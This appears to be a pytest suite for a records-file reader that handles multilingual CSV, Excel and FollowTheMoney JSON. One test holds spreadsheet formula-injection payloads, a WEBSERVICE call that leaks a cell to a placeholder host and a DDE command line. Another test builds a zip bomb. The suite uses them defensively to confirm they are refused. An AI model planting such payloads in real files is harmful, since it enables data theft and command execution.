"""Files in the encodings and shapes that offices really have."""

from __future__ import annotations

import contextlib
import io
import json
import zipfile
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from lienlac.apps.records.files import read
from lienlac.apps.records.files.encodings import decode
from lienlac.apps.records.files.table import why_broken
from lienlac.core.errors import Malformed

CHINESE = "姓名,出生日期,性别\n谭庆远,1987年3月12日,男\n韦明霞,1990,女\n"
VIETNAMESE = "Họ và tên;Năm sinh\nĐàm Khánh Viễn;1987\nNông Thùy Linh;1990\n"


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "gbk", "gb18030"]
)
def test_chinese_is_read_in_every_usual_encoding(encoding: str) -> None:
    table = read("list.csv", CHINESE.encode(encoding))
    assert table.headings == ("姓名", "出生日期", "性别")
    assert [cells[0] for _, cells in table.rows] == ["谭庆远", "韦明霞"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le"])
def test_vietnamese_keeps_its_accents(encoding: str) -> None:
    table = read("list.csv", VIETNAMESE.encode(encoding))
    assert table.rows[0] == (2, ("Đàm Khánh Viễn", "1987"))


def test_the_officer_may_say_the_encoding() -> None:
    content = "ชื่อ,เพศ\nสมชาย,ชาย\n".encode("cp874")
    assert read("x.csv", content, encoding="cp874").rows[0][1] == ("สมชาย", "ชาย")
    with pytest.raises(Malformed, match="file_encoding"):
        read("x.csv", content, encoding="utf-8")


@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc", "Co", "Cn"]), min_size=1))
def test_utf_8_is_never_taken_for_something_else(text: str) -> None:
    found, encoding = decode(text.encode())
    assert (found, encoding) == (text.removeprefix("\ufeff"), "utf-8")


@settings(max_examples=200)
@given(st.binary(min_size=1, max_size=400), st.sampled_from(["a.csv", "a.json", "a.xlsx", "a"]))
def test_no_bytes_raise_anything_but_our_own_errors(content: bytes, name: str) -> None:
    with contextlib.suppress(Malformed):
        read(name, content)


def workbook(*rows: tuple[object, ...]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_xlsx_gives_text_and_dates_as_days() -> None:
    table = read(
        "list.xlsx", workbook(("Name", "Born", "No"), ("Lò Thị Mai", date(1999, 5, 4), 17.0), (None,))
    )
    assert table.rows == ((2, ("Lò Thị Mai", "1999-05-04", "17")),)


@pytest.mark.parametrize("formula", ["=1+1", '=WEBSERVICE("http://example.org/"&A2)', "=cmd|' /C calc'!A0"])
def test_a_formula_is_refused_in_its_row_and_never_worked_out(formula: str) -> None:
    table = read("list.xlsx", workbook(("Name", "Born"), ("Lò Thị Mai", formula), ("Vi Văn Sáng", "1990")))
    assert why_broken(table.rows[0][1]) == "formula_in_cell"
    assert why_broken(table.rows[1][1]) == ""


def test_a_bomb_is_not_unpacked() -> None:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed,
        packed.open("a", "w", force_zip64=True) as one,
    ):
        for _ in range(401):
            one.write(bytes(1024 * 1024))
    with pytest.raises(Malformed, match="file_too_big"):
        read("list.xlsx", out.getvalue())


@pytest.mark.parametrize("cut", [5, 100, 2_000])
def test_a_workbook_cut_off_is_broken_not_empty(cut: int) -> None:
    with pytest.raises(Malformed, match="file_broken"):
        read("list.xlsx", workbook(("Name",), ("Lò Thị Mai",))[:cut])


def entity(schema: str = "Person", **properties: list[str]) -> str:
    return json.dumps({"id": "e-1", "schema": schema, "properties": properties})


def test_follow_the_money_becomes_a_table() -> None:
    lines = "\n".join(
        [
            entity(name=["Đàm Khánh Viễn", "谭庆远"], birthDate=["1987"], topics=["wanted"]),
            entity("Vehicle", registrationNumber=["桂L·12345"]),
            entity("Ownership", owner=["e-1"]),
            "not json",
        ]
    )
    table = read("people.ftm.json", lines.encode())
    assert table.format == "ftm"
    assert table.headings == ("kind", "id", "birthDate", "name", "registrationNumber")
    (first, second, third, fourth) = (cells for _, cells in table.rows)
    assert first[:4] == ("wanted", "e-1", "1987", "Đàm Khánh Viễn; 谭庆远")
    assert second[0] == "vehicle"
    assert why_broken(third) == "schema_not_read"
    assert why_broken(fourth) == "row_is_no_entity"


def test_json_ten_thousand_deep_is_a_row_that_cannot_be_taken() -> None:
    table = read("x.json", ("[" * 10_000 + "\n" + entity(name=["Lò Thị Mai"])).encode())
    assert why_broken(table.rows[0][1]) == "row_is_no_entity"


def test_a_number_of_five_thousand_digits_is_a_row_that_cannot_be_taken() -> None:
    table = read(
        "x.json", (f'{{"schema": "Person", "properties": {"9" * 5_000}}}\n' + entity(name=["Mai"])).encode()
    )
    assert why_broken(table.rows[0][1]) == "row_is_no_entity"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"  \n ", "file_empty"),
        (b"name,born\n", "file_without_rows"),
        (b"name,Name\na,b\n", "heading_twice"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old excel", "file_format_unknown"),
    ],
)
def test_what_is_wrong_with_a_file_is_named(content: bytes, code: str) -> None:
    with pytest.raises(Malformed, match=code):
        read("x.csv", content)


def test_a_cell_of_a_million_letters_spoils_its_row_only() -> None:
    table = read("x.csv", b"name,text\nMai," + b"x" * 100_000 + b"\nSang,ok\n")
    assert [why_broken(cells) for _, cells in table.rows] == ["cell_too_long", ""]
